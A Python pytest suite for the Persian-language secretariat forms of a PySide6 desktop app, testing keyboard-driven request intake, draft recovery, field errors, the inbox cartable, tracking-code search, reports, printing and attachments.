"""The secretariat's main forms driven by the keyboard: intake in Persian with Enter, errors at the
field with nothing lost, the cartable (unread in bold, opening marks read), search in one step."""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QFont

from kanoon_desk import persian
from kanoon_desk.services import secretariat as sec
from kanoon_desk.services import secretariat_query as q
from kanoon_desk.services.numbers import format_tracking_code
from kanoon_desk.ui.secretariat import pages
from kanoon_desk.ui.secretariat.case_view import CaseView
from kanoon_desk.ui.secretariat.intake import IntakePage
from kanoon_desk.ui.secretariat.lists import CartablePage, SearchPage
from kanoon_desk.ui.secretariat.reports import ReportsPage
from tests.secretariat_helpers import Desk, case_input, make_secretariat_desk, national_id
from tests.ui.shell_support import drop_files, label_plain, language, make_ctx, visible

DAY = date(2025, 5, 4)


@pytest.fixture(autouse=True)
def persian_app(qapp: Any) -> Any:
    with language(qapp, "fa"):
        yield


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return make_secretariat_desk(tmp_path)


def _intake(qtbot: Any, desk: Desk, tmp_path: Path) -> IntakePage:
    page = IntakePage(make_ctx(desk.store, desk.clerk, tmp_path))
    page.today.pin(DAY)
    page.received.set_value(DAY)
    qtbot.addWidget(page)
    page.resize(1100, 700)
    page.show()
    return page


def test_intake_typed_in_persian_saved_with_enter(qtbot: Any, desk: Desk, tmp_path: Path,
                                                 type_persian: Any) -> None:
    page = _intake(qtbot, desk, tmp_path)
    qtbot.keyClicks(page.national_id, national_id(4242))
    type_persian(page.first_name, "زهرا")
    type_persian(page.last_name, "کریمی")
    type_persian(page.text, "برق محله ما هر شب قطع می‌شود")
    type_persian(page.subject, "قطعی مکرر برق")
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is not None
    code = page.receipt.tracking_code
    assert "کد رهگیری" in page.result.text()
    from kanoon_desk.persian import to_persian_digits

    assert len(code) == 16 and code.startswith("001301")  # office 13, device 1
    grouped = " ".join(to_persian_digits(code)[i:i + 4] for i in range(0, 16, 4))
    assert "\u2066" + grouped + "\u2069" in page.result.text()  # read out in fours, left to right
    assert page.first_name.text() == "" and page.print_button.isEnabled()
    status = q.case_status_by_tracking_code(desk.store, code)
    assert status is not None and status.status == "received"
    rows = q.search(desk.store, desk.clerk, q.SearchQuery(text=code))
    assert rows[0].applicant_name == "زهرا کریمی" and rows[0].subject == "قطعی مکرر برق"
    html = page.receipt_html()
    assert 'dir="rtl"' in html and "۱۴۰۴/۰۲/۱۴" in html
    page.grab().save(str(tmp_path / "intake.png"))


def test_a_half_typed_request_survives_a_crash_and_goes_once_saved(qtbot: Any, desk: Desk, tmp_path: Path,
                                                                  type_persian: Any) -> None:
    """What the clerk types is on disk within a moment: the app killed mid-form, the next intake
    page of that clerk is filled again and says so; another user's is not; a save (or «فرم تازه»)
    drops the draft."""
    from PySide6.QtCore import QSettings

    from kanoon_desk.ui.drafts import draft_key

    scan = tmp_path / "scan.pdf"
    scan.write_bytes(b"%PDF-1.4 scanned letter")
    page = _intake(qtbot, desk, tmp_path)
    qtbot.keyClicks(page.national_id, national_id(4243))
    type_persian(page.first_name, "زهرا")
    type_persian(page.subject, "قطعی مکرر برق")
    type_persian(page.text, "برق محله ما هر شب قطع می‌شود")
    page.channel.setCurrentIndex(2)
    page.add_file(scan)
    key = draft_key(desk.clerk.user_id, "secretariat-intake")
    ini = tmp_path / "settings.ini"

    def written() -> bool:  # on disk, not only in this process's settings cache
        return ini.exists() and "secretariat-intake" in ini.read_text(encoding="utf-8") and \
            "می‌شود" in str(QSettings(str(ini), QSettings.Format.IniFormat).value(key) or "")

    qtbot.waitUntil(written, timeout=3000)
    page.hide()  # the app dies here: nothing was saved
    again = _intake(qtbot, desk, tmp_path)
    assert (again.national_id.text(), again.first_name.text(), again.subject.text(), again.text.toPlainText()) == (
        national_id(4243), "زهرا", "قطعی مکرر برق", "برق محله ما هر شب قطع می‌شود")
    assert again.channel.currentIndex() == 2 and again.files == [scan]
    assert again.draft_note.isVisible() and again.draft_note.text().startswith("فرم نیمه‌کاره‌ای")
    other = IntakePage(make_ctx(desk.store, desk.admin, tmp_path))  # the drafts are each user's own
    qtbot.addWidget(other)
    assert other.first_name.text() == "" and other.draft_note.isHidden()
    type_persian(again.last_name, "کریمی")
    qtbot.keyClick(again.last_name, Qt.Key.Key_Return)
    assert again.receipt is not None and again.first_name.text() == "" and again.draft_note.isHidden()
    case = q.search(desk.store, desk.clerk, q.SearchQuery(text=again.receipt.tracking_code))[0]
    assert case.applicant_name == "زهرا کریمی"
    qtbot.wait(600)  # (a late write of the emptied form would be no draft either)
    fresh = _intake(qtbot, desk, tmp_path)
    assert fresh.first_name.text() == "" and fresh.draft_note.isHidden() and fresh.files == []
    type_persian(fresh.address, "خیابان آزادی")  # and the app quits at once, before the typing rests
    from PySide6.QtWidgets import QApplication
    QApplication.instance().aboutToQuit.emit()  # type: ignore[union-attr]
    assert _intake(qtbot, desk, tmp_path).address.text() == "خیابان آزادی"
    fresh.address.clear()
    fresh.draft.flush()
    type_persian(fresh.subject, "آسفالت")
    qtbot.mouseClick(fresh.new_button, Qt.MouseButton.LeftButton)
    assert fresh.subject.text() == "" and _intake(qtbot, desk, tmp_path).subject.text() == ""


def test_errors_show_at_the_field_and_nothing_typed_is_lost(qtbot: Any, desk: Desk, tmp_path: Path,
                                                           type_persian: Any) -> None:
    page = _intake(qtbot, desk, tmp_path)
    qtbot.keyClicks(page.national_id, "1234567890")
    page.national_id.editingFinished.emit()
    assert "کد ملی" in page.form.error_of("national_id")  # checked at the field, before saving
    type_persian(page.first_name, "علی")
    type_persian(page.subject, "خرابی آسفالت")
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is None
    assert page.form.error_of("national_id") != ""
    assert (page.first_name.text(), page.subject.text()) == ("علی", "خرابی آسفالت")
    page.national_id.setText(national_id(77))
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.form.error_of("last_name") == "این خانه را پر کنید."
    assert page.first_name.text() == "علی" and page.last_name.hasFocus()
    type_persian(page.last_name, "رضایی")
    qtbot.keyClick(page.last_name, Qt.Key.Key_Return)
    assert page.receipt is not None and page.form.error_of("last_name") == ""


def test_duplicate_hint_before_saving(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    sec.intake(desk.store, desk.clerk, case_input(5, subject="قطعی آب"), on=DAY)
    page = _intake(qtbot, desk, tmp_path)
    qtbot.keyClicks(page.national_id, case_input(5).national_id)
    page.national_id.editingFinished.emit()
    assert "قطعی آب" in label_plain(page.duplicates)


def test_a_similar_case_opens_from_the_hint_and_the_form_keeps_what_was_typed(
        qtbot: Any, desk: Desk, tmp_path: Path, type_persian: Any) -> None:
    """The applicant comes back and the national ID is typed with its check digit wrong: the hint
    says which ID was probably meant and lists the earlier case; its tracking code opens it in a
    window of its own (status, holder, timeline), and the half-typed intake is all still there."""
    earlier = sec.intake(desk.store, desk.clerk, case_input(5, subject="قطعی آب"), on=DAY)
    nid = case_input(5).national_id
    page = _intake(qtbot, desk, tmp_path)
    wrong = nid[:9] + str((int(nid[9]) + 1) % 10)
    qtbot.keyClicks(page.national_id, wrong)
    type_persian(page.first_name, "زهرا")
    type_persian(page.subject, "قطعی آب کوچه")
    page.subject.editingFinished.emit()
    lines = visible(label_plain(page.duplicates)).splitlines()
    assert lines[0] == f"کد ملی نوشته‌شده درست نیست؛ شاید {persian.to_persian_digits(nid)} باشد:"
    assert persian.to_persian_digits(format_tracking_code(earlier.tracking_code)) in lines[1]
    assert f'href="{earlier.case_id}"' in page.duplicates.text()
    page.duplicates.linkActivated.emit(earlier.case_id)  # its code clicked
    [window] = page.case_windows
    view = window.findChild(CaseView)
    assert window.isVisible() and not window.isModal() and view.case_id == earlier.case_id
    assert visible(view.labels["status"].text()) == q.STATUS_FA["received"]
    assert (page.national_id.text(), page.first_name.text(), page.subject.text()) == (wrong, "زهرا", "قطعی آب کوچه")
    window.close()


def test_enter_in_the_subject_shows_similar_cases_before_it_saves(qtbot: Any, desk: Desk, tmp_path: Path,
                                                                   type_persian: Any) -> None:
    sec.intake(desk.store, desk.clerk, case_input(5, subject="قطعی مکرر آب در محله"), on=DAY)
    page = _intake(qtbot, desk, tmp_path)
    qtbot.keyClicks(page.national_id, national_id(606))  # someone else
    type_persian(page.first_name, "رضا")
    type_persian(page.last_name, "مرادی")
    type_persian(page.subject, "قطعی آب محله")  # typed, then Enter at once: no hint was worked out yet
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is None  # not saved: the similar case is shown first, and stays
    assert "قطعی مکرر آب در محله" in label_plain(page.duplicates) and page.confirm.isVisible()
    assert page.subject.text() == "قطعی آب محله"
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)  # seen: Enter again saves
    assert page.receipt is not None and not page.confirm.isVisible()
    type_persian(page.subject, "موضوعی دیگر")  # nothing similar: Enter saves at once
    qtbot.keyClicks(page.national_id, national_id(607))
    type_persian(page.first_name, "مینا")
    type_persian(page.last_name, "صالحی")
    first = page.receipt
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is not None and page.receipt is not first


def _referred(desk: Desk, n: int) -> str:
    r = sec.intake(desk.store, desk.clerk, case_input(n), on=DAY)
    sec.review(desk.store, desk.expert, r.case_id, accept=True, on=DAY)
    sec.register(desk.store, desk.clerk, r.case_id, on=DAY)
    sec.refer(desk.store, desk.expert, r.case_id, desk.manager.user_id, instruction="بررسی شود", on=DAY)
    return r.case_id


def test_cartable_unread_bold_then_read_on_open(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    ids = [_referred(desk, n) for n in (1, 2, 3)]
    page = CartablePage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    page.resize(1200, 800)
    page.show()
    model = page.model
    assert model.total == 3 and model.rowCount() == 3
    assert "۳" in page.count.text()
    font = model.data(model.index(0, 2), Qt.ItemDataRole.FontRole)
    assert isinstance(font, QFont) and font.bold()
    assert model.data(model.index(0, 7)).endswith("ساعت") or model.data(model.index(0, 7)).endswith("روز")
    first_case = model.row_at(0).case_id
    page.open_row(0)
    assert model.data(model.index(0, 2), Qt.ItemDataRole.FontRole) is None  # read now
    assert page.view.case_id == first_case and "forward" in page.view.buttons
    page.unread.setChecked(True)
    assert page.model.total == 2
    assert set(ids) >= {model.row_at(i).case_id for i in range(model.rowCount())}
    page.grab().save(str(tmp_path / "cartable.png"))


def test_the_cartable_is_worked_from_the_keyboard(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    """Down from the filter box steps onto the first item; Enter opens it (and so marks it read);
    the arrows alone open nothing, since opening marks an item read."""
    for n in (31, 32):
        _referred(desk, n)
    page = CartablePage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    page.show()
    page.activateWindow()
    qtbot.waitUntil(page.isActiveWindow)
    page.filter.setFocus()
    qtbot.keyClick(page.filter, Qt.Key.Key_Down)
    assert page.table.hasFocus() and page.table.currentIndex().row() == 0 and page.view.case_id is None
    qtbot.keyClick(page.table, Qt.Key.Key_Down)
    assert page.view.case_id is None
    qtbot.keyClick(page.table, Qt.Key.Key_Return)
    assert page.view.case_id == page.model.row_at(1).case_id
    assert page.model.data(page.model.index(1, 2), Qt.ItemDataRole.FontRole) is None  # read now


def test_search_by_tracking_code_opens_the_case(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    r = sec.intake(desk.store, desk.clerk, case_input(9), on=DAY)
    sec.intake(desk.store, desk.clerk, case_input(10), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    qtbot.addWidget(page)
    page.show()
    assert page.model.total == 2
    assert page.view.placeholder.isVisible() and not page.view.body.isVisible()  # no empty case form
    qtbot.keyClicks(page.text, r.tracking_code)
    qtbot.keyClick(page.text, Qt.Key.Key_Return)
    assert page.model.total == 1 and page.view.case_id == r.case_id
    assert page.view.body.isVisible() and not page.view.placeholder.isVisible()
    assert "visit" in page.view.buttons and "accept" not in page.view.buttons  # a clerk does not review
    page.text.clear()
    qtbot.keyClicks(page.text, r.tracking_code[:-1] + str((int(r.tracking_code[-1]) + 1) % 10))  # one digit misread
    qtbot.keyClick(page.text, Qt.Key.Key_Return)
    assert page.model.total == 0 and page.count.text() == "کد رهگیری نادرست است؛ رقم‌هایش را دوباره بخوانید."


def test_a_code_another_office_issued_or_one_digit_too_many_is_said_so(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    """The applicant reads out a code of another office (its first four digits, 0014), or says a
    digit twice: the count says why nothing is listed, not «۰ پرونده»."""
    from kanoon_desk.services.numbers import tracking_code_for
    r = sec.intake(desk.store, desk.clerk, case_input(9), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    qtbot.addWidget(page)
    page.show()
    for typed, said in ((tracking_code_for("14", 1, 123456), "این کد رهگیری را دفتر دیگری (دفتر ۱۴) داده است؛ "
                         "پرونده‌اش در همان دفتر است و این دفتر آن را ندارد."),
                        (r.tracking_code[:9] + r.tracking_code[8:], "کد رهگیری ۱۶ رقم دارد و این ۱۷ رقم است؛ "
                         "رقم‌هایش را دوباره بخوانید.")):
        page.text.clear()
        qtbot.keyClicks(page.text, typed)
        qtbot.keyClick(page.text, Qt.Key.Key_Return)
        assert page.model.total == 0 and page.count.text() == said, typed
    page.text.clear()
    qtbot.keyClicks(page.text, r.tracking_code)  # this office's own: straight to its case
    qtbot.keyClick(page.text, Qt.Key.Key_Return)
    assert page.view.case_id == r.case_id and page.count.text() == "۱ پرونده"


def test_the_arrow_keys_walk_the_list_and_the_case_below_follows(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    """A case reached with the keyboard opens below the list, as a click opens it (only a click did)."""
    for n in (11, 12, 13):
        sec.intake(desk.store, desk.clerk, case_input(n), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    qtbot.addWidget(page)
    page.show()
    assert page.model.total == 3 and page.view.case_id is None
    page.table.setFocus()
    ctrl, none = Qt.KeyboardModifier.ControlModifier, Qt.KeyboardModifier.NoModifier
    for key, mod, row in ((Qt.Key.Key_Down, none, 0), (Qt.Key.Key_Down, none, 1), (Qt.Key.Key_End, ctrl, 2),
                          (Qt.Key.Key_Home, ctrl, 0)):
        qtbot.keyClick(page.table, key, mod)
        assert page.table.currentIndex().row() == row
        assert page.view.case_id == page.model.row_at(row).id


def test_down_in_the_search_box_opens_the_first_result(qtbot: Any, desk: Desk, tmp_path: Path,
                                                       type_persian: Any) -> None:
    """Typed, Enter, Down: the first case of the list is open and the arrow keys go on from it."""
    for n in (21, 22):
        sec.intake(desk.store, desk.clerk, case_input(n), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    qtbot.addWidget(page)
    page.show()
    page.activateWindow()
    qtbot.waitUntil(page.isActiveWindow)
    page.text.setFocus()
    type_persian(page.text, "قطعی برق")
    qtbot.keyClick(page.text, Qt.Key.Key_Return)
    assert page.model.total == 2 and page.view.case_id is None
    qtbot.keyClick(page.text, Qt.Key.Key_Down)
    assert page.table.hasFocus() and page.view.case_id == page.model.row_at(0).id
    # the row open is the row highlighted (it had only a dotted frame round one cell)
    assert [i.row() for i in page.table.selectionModel().selectedRows()] == [0]
    qtbot.keyClick(page.table, Qt.Key.Key_Down)
    assert page.view.case_id == page.model.row_at(1).id
    assert [i.row() for i in page.table.selectionModel().selectedRows()] == [1]


def test_search_list_gives_the_subject_the_room_a_long_agency_name_would_take(qtbot: Any, desk: Desk,
                                                                               tmp_path: Path) -> None:
    from PySide6.QtWidgets import QHeaderView

    from kanoon_desk.services.secretariat_agencies import save_agency

    long_name = save_agency(desk.store, desk.admin, name="اداره کل منابع طبیعی و آبخیزداری استان " * 3,
                            deadline_days=None)
    case_id = _referred(desk, 1)
    sec.forward(desk.store, desk.manager, case_id, long_name.id, on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    page.resize(1000, 600)
    page.show()
    header = page.table.horizontalHeader()
    subject = page.model.headers.index("موضوع")
    agency = page.model.headers.index("دستگاه")
    assert header.sectionResizeMode(subject) == QHeaderView.ResizeMode.Stretch
    wanted = min(page.table.SUBJECT_MIN, page.table.sizeHintForColumn(subject))
    assert header.sectionSize(subject) >= wanted - 2  # the subject whole (up to a frame's pixels)
    assert header.sectionSize(agency) < page.table.sizeHintForColumn(agency)  # the long name is cut
    page.resize(3000, 600)  # room enough: every column at its full width again
    qtbot.waitUntil(lambda: header.sectionSize(agency) >= page.table.sizeHintForColumn(agency))


def test_column_cap_cuts_only_the_widest_columns() -> None:
    from kanoon_desk.ui.tables import column_cap

    assert column_cap([100, 120, 300], room=600) == 300  # all fit: nothing cut
    assert column_cap([100, 120, 300, 300], room=620) == 200  # the two wide ones share what is left
    assert column_cap([100, 120, 300], room=100) == 90  # never below the floor


def test_reports_page_and_exports(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    _referred(desk, 1)
    page = ReportsPage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    page.year.setValue(1404)
    page.kind.setCurrentIndex(0)
    page.number.setCurrentIndex(0)
    page.refresh()
    assert page.report is not None and page.report.received == 1
    xlsx = page.export_excel(tmp_path / "r.xlsx")
    from openpyxl import load_workbook

    wb = load_workbook(xlsx)
    assert wb.active.sheet_view.rightToLeft and wb.active["B2"].value == 1
    pdf = page.export_pdf(tmp_path / "r.pdf")
    assert pdf is not None and pdf.read_bytes().startswith(b"%PDF")
    assert b"/Subtype /Image" in pdf.read_bytes()  # the chart goes with the figures


def test_pages_follow_roles(desk: Desk, tmp_path: Path) -> None:
    specs = pages(make_ctx(desk.store, desk.clerk, tmp_path))
    keys = {s.key for s in specs}
    assert {"secretariat-intake", "secretariat-cartable", "secretariat-reports"} <= keys
    librarian_sees = [s for s in specs if not s.roles or desk.librarian.has(*s.roles)]
    assert librarian_sees == []


def test_case_view_action_dialog_keeps_input_and_shows_error_at_field(qtbot: Any, desk: Desk, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch,
                                                                      type_persian: Any) -> None:
    from kanoon_desk.ui.secretariat.case_view import ActionDialog, CaseView

    case_id = _referred(desk, 1)
    sec.forward(desk.store, desk.manager, case_id, desk.agency.id, on=DAY)
    view = CaseView(make_ctx(desk.store, desk.expert, tmp_path), case_id)
    qtbot.addWidget(view)
    assert {"follow_up", "answer", "close"} <= set(view.buttons) and "forward" not in view.buttons
    seen: dict[str, Any] = {}

    def fake_exec(dlg: ActionDialog) -> int:
        outcome = dlg.form.field("outcome")
        outcome.setCurrentIndex(outcome.findData("not_responsible"))  # type: ignore[attr-defined]
        dlg.submit()  # no responsible agency named: refused at that field, the dialog stays
        seen["error"] = dlg.form.error_of("responsible_party")
        seen["still_open"] = dlg.result() != ActionDialog.DialogCode.Accepted
        type_persian(dlg.form.field("responsible_party"), "اداره کل آموزش و پرورش")
        dlg.submit()
        return int(dlg.result())

    monkeypatch.setattr(ActionDialog, "exec", fake_exec)
    view.buttons["close"].click()
    assert seen == {"error": "بنویسید رسیدگی به این درخواست وظیفه کدام دستگاه است.", "still_open": True}
    c = q.get_case(desk.store, desk.expert, case_id).case
    assert c["status"] == "closed" and c["responsible_party"] == "اداره کل آموزش و پرورش"
    assert "reopen" in view.buttons and view.timeline.model().rowCount() == 6


def test_case_view_timeline_shows_the_day_of_each_step_and_when_it_was_entered(
        qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    from kanoon_desk import persian
    from kanoon_desk.ui.secretariat.case_view import CaseView

    case_id = _referred(desk, 1)  # received on DAY (in 2025), entered today
    view = CaseView(make_ctx(desk.store, desk.expert, tmp_path), case_id)
    qtbot.addWidget(view)
    model = view.timeline.model()
    headers = [model.headerData(i, Qt.Orientation.Horizontal) for i in range(model.columnCount())]
    assert headers == ["تاریخ", "زمان ثبت", "کار", "کاربر", "شرح"]
    entries = q.get_case(desk.store, desk.expert, case_id).timeline
    cell = [[model.data(model.index(r, c)) for c in range(2)] for r in range(model.rowCount())]
    assert cell[0][0] == persian.format_jalali_date(DAY) == "۱۴۰۴/۰۲/۱۴"
    for shown, entry in zip(cell, entries, strict=True):
        assert re.fullmatch(r"[۰-۹]{4}/[۰-۹]{2}/[۰-۹]{2} [۰-۹]{2}:[۰-۹]{2}", shown[1])
        assert shown[1] == persian.format_jalali_datetime(entry.recorded_at)
    assert cell[0][1][:10] != cell[0][0]  # the received day is not the day it was typed in


def test_case_view_papers_follow_up_letter_and_rejection_notice(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    from kanoon_desk.ui.secretariat.case_view import CaseView

    case_id = _referred(desk, 1)
    sec.forward(desk.store, desk.manager, case_id, desk.agency.id, on=DAY)
    sec.follow_up(desk.store, desk.expert, case_id, method="letter", note="پاسخی نرسید",
                  new_deadline=date(2025, 6, 10), on=date(2025, 5, 27))
    view = CaseView(make_ctx(desk.store, desk.expert, tmp_path), case_id)
    qtbot.addWidget(view)
    html = view.follow_up_letter_html()
    assert "نامه پیگیری" in html and "۱۴۰۴/۰۳/۲۰" in html and "شهرداری مرکز استان" in html
    r = sec.intake(desk.store, desk.clerk, case_input(2), on=DAY)
    sec.review(desk.store, desk.expert, r.case_id, accept=False, reason="مدارک ناقص", on=DAY)
    view.load(r.case_id)
    assert "rejection_notice" in view.papers and "مدارک ناقص" in view.rejection_notice_html()


def test_every_paper_of_a_case_goes_to_the_printer_or_to_a_pdf(qtbot: Any, desk: Desk, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from PySide6.QtWidgets import QFileDialog

    from kanoon_desk.ui import printing
    from kanoon_desk.ui.secretariat.case_view import CaseView

    case_id = _referred(desk, 1)
    view = CaseView(make_ctx(desk.store, desk.manager, tmp_path), case_id)
    qtbot.addWidget(view)
    assert set(view.papers) == {"receipt", "history"}  # the receipt and the case file, at any time
    sec.forward(desk.store, desk.manager, case_id, desk.agency.id, on=DAY)
    sec.follow_up(desk.store, desk.expert, case_id, method="letter", note="پاسخی نرسید",
                  new_deadline=date(2025, 6, 10), on=date(2025, 5, 27))
    view.load(case_id)
    assert set(view.papers) == {"receipt", "letter", "follow_up_letter", "history"}
    printed: list[str] = []
    monkeypatch.setattr(printing, "print_dialog", lambda parent, html: printed.append(html) or True)
    saved = tmp_path / "out.pdf"
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *a, **k: (str(saved), "PDF (*.pdf)"))
    menu = view.buttons["papers"].menu()
    assert [a.text() for a in menu.actions() if a.text()] == [
        "چاپ رسید", "رسید PDF", "چاپ نامه ارسال", "نامه ارسال PDF", "چاپ نامه پیگیری", "نامه پیگیری PDF",
        "چاپ گردش کار", "گردش کار PDF"]
    for key in ("receipt", "letter", "follow_up_letter", "history"):
        view.papers[key][0].trigger()
    assert "رسید دریافت درخواست" in printed[0] and "نامه ارجاع به دستگاه اجرایی" in printed[1]
    assert "نامه پیگیری" in printed[2] and ">ارسال به دستگاه اجرایی<" in printed[3]
    view.papers["receipt"][1].trigger()
    assert saved.read_bytes().startswith(b"%PDF")
    r = sec.intake(desk.store, desk.clerk, case_input(2), on=DAY)
    sec.review(desk.store, desk.expert, r.case_id, accept=False, reason="مدارک ناقص", on=DAY)
    view.load(r.case_id)
    view.papers["rejection_notice"][0].trigger()
    assert "مدارک ناقص" in printed[-1]


def test_intake_attachments_checked_and_kept_on_failure(qtbot: Any, desk: Desk, tmp_path: Path,
                                                        type_persian: Any) -> None:
    from tests.secretariat_helpers import PDF_BYTES

    page = _intake(qtbot, desk, tmp_path)
    bad = tmp_path / "notes.pdf"
    bad.write_bytes(b"just text, not a scan")
    good = tmp_path / "scan.pdf"
    good.write_bytes(PDF_BYTES)
    qtbot.keyClicks(page.national_id, national_id(31))
    type_persian(page.first_name, "مریم")
    type_persian(page.last_name, "احمدی")
    type_persian(page.subject, "خرابی آسفالت معبر")
    page.add_file(good)
    page.add_file(bad)
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert "PDF" in page.form.error_of("attachments") and page.receipt is None
    assert page.file_list.count() == 2 and page.subject.text() == "خرابی آسفالت معبر"
    page.file_list.setCurrentRow(1)
    page.remove_selected_file()
    assert page.files == [good]
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is not None and page.receipt.attachments == 1
    assert "۱" in page.receipt_html()


def test_the_manager_sends_a_case_back_to_the_expert_in_one_step(qtbot: Any, desk: Desk, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch,
                                                                type_persian: Any) -> None:
    from kanoon_desk.ui.secretariat.case_view import ActionDialog, CaseView

    case_id = _referred(desk, 1)  # the expert referred it to the manager
    expert_view = CaseView(make_ctx(desk.store, desk.expert, tmp_path), case_id)
    qtbot.addWidget(expert_view)
    assert "refer_back" not in expert_view.buttons  # only the manager who holds it
    view = CaseView(make_ctx(desk.store, desk.manager, tmp_path), case_id)
    qtbot.addWidget(view)

    def fake_exec(dlg: ActionDialog) -> int:
        type_persian(dlg.form.field("instruction"), "مدارک مالکیت را بخواهید")
        dlg.submit()
        return int(dlg.result())

    monkeypatch.setattr(ActionDialog, "exec", fake_exec)
    view.buttons["refer_back"].click()
    assert q.cartable_count(desk.store, desk.expert) == 1 and q.cartable_count(desk.store, desk.manager) == 0
    [item] = q.cartable(desk.store, desk.expert)
    assert item.instruction == "مدارک مالکیت را بخواهید"
    assert "refer_back" not in view.buttons  # it is the expert's now


def test_the_agencys_scanned_answer_and_a_later_document_join_the_case(
        qtbot: Any, desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, type_persian: Any) -> None:
    from PySide6.QtWidgets import QLineEdit

    from kanoon_desk.ui.secretariat.case_view import ActionDialog, CaseView
    from tests.secretariat_helpers import PDF_BYTES, PNG_BYTES

    case_id = _referred(desk, 1)
    sec.forward(desk.store, desk.manager, case_id, desk.agency.id, on=DAY)
    letter, later = tmp_path / "پاسخ شهرداری.pdf", tmp_path / "sanad.png"
    letter.write_bytes(PDF_BYTES)
    later.write_bytes(PNG_BYTES)
    view = CaseView(make_ctx(desk.store, desk.expert, tmp_path), case_id)
    qtbot.addWidget(view)
    steps: list[Any] = []

    def fake_exec(dlg: ActionDialog) -> int:
        steps.append(dlg)
        if len(steps) == 1:  # the answer, with its scanned letter
            type_persian(dlg.form.field("text"), "پیگیری شد و برق محله وصل است")
            dlg.findChild(QLineEdit, "attachment-path").setText(str(letter))
        elif len(steps) == 2:  # a document brought later: nothing chosen is said at the field
            dlg.submit()
            steps.append(dlg.form.error_of("attachments"))
            dlg.findChild(QLineEdit, "attachments-path").setText(str(later))
        dlg.submit()
        return int(dlg.result())

    monkeypatch.setattr(ActionDialog, "exec", fake_exec)
    view.buttons["answer"].click()
    view.buttons["attach"].click()
    assert steps[2] == "نخست فایل اسکن را برگزینید."
    detail = q.get_case(desk.store, desk.expert, case_id)
    assert detail.case["status"] == "answered"
    assert sorted((a["filename"], a["kind"]) for a in detail.attachments) == [
        ("sanad.png", "applicant"), ("پاسخ شهرداری.pdf", "response")]
    assert view.attachments.count() == 2
    # opened from the list: a copy under its own name, for the system's viewer
    row = [a["filename"] for a in view.detail.attachments].index("پاسخ شهرداری.pdf")
    copy = view.attachment_copy(row)
    assert copy is not None and copy.name == "پاسخ شهرداری.pdf" and copy.read_bytes() == PDF_BYTES
    # a desk that has the case but not yet the file says so instead of failing
    from kanoon_desk.services.secretariat_files import attachment_path

    attachment_path(desk.store, view.detail.attachments[row]["sha256"]).unlink()
    assert view.attachment_copy(row) is None
    assert view.attachment_message.text() == "این پیوست هنوز به این میز نرسیده است؛ پس از همگام‌سازی باز می‌شود."


def test_the_cartable_shows_my_open_referrals_and_where_they_wait(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    case_id = _referred(desk, 1)  # the expert referred it to manager1, who has not opened it
    page = CartablePage(make_ctx(desk.store, desk.expert, tmp_path))
    qtbot.addWidget(page)
    assert page.model.rowCount() == 0  # nothing sent to the expert
    page.box.setCurrentIndex(page.box.findData("sent"))
    model = page.model
    assert model.rowCount() == 1 and model.headerData(4, Qt.Orientation.Horizontal) == "به"
    assert model.index(0, 4).data() == "کاربر manager1" and not page.unread.isEnabled()  # (digits as shown)
    page.open_row(0)
    assert page.view.case_id == case_id and "recall" in page.view.buttons  # it can be taken back from here
    assert q.cartable_count(desk.store, desk.manager, unread_only=True) == 1  # still unread by the manager
    page.box.setCurrentIndex(page.box.findData("inbox"))
    assert page.model.rowCount() == 0 and page.model.headerData(4, Qt.Orientation.Horizontal) == "از"


def test_search_by_a_range_of_received_dates_each_bound_optional(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    from datetime import timedelta

    from kanoon_desk import persian

    for n, day in ((1, date(2025, 4, 1)), (2, date(2025, 4, 20)), (3, date(2025, 5, 3))):
        sec.intake(desk.store, desk.clerk, case_input(n, received_date=day), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    page.today.pin(DAY)
    qtbot.addWidget(page)
    page.show()
    assert page.model.total == 3 and not page.date_from.date.isEnabled()  # no bound until ticked
    page.date_from.check.setChecked(True)
    assert page.date_from.date.isEnabled()
    assert persian.format_jalali_date(page.date_from.date.value()).endswith("/۰۱")  # the month's first day
    page.date_from.date.set_value(date(2025, 4, 10))
    assert page.model.total == 2 and page.count.text() == "۲ پرونده"
    page.date_to.set_value(date(2025, 4, 30))
    assert page.model.total == 1 and page.model.row_at(0).received_date == date(2025, 4, 20)
    page.date_from.set_value(None)  # unticked: only the upper bound is left
    assert page.model.total == 2
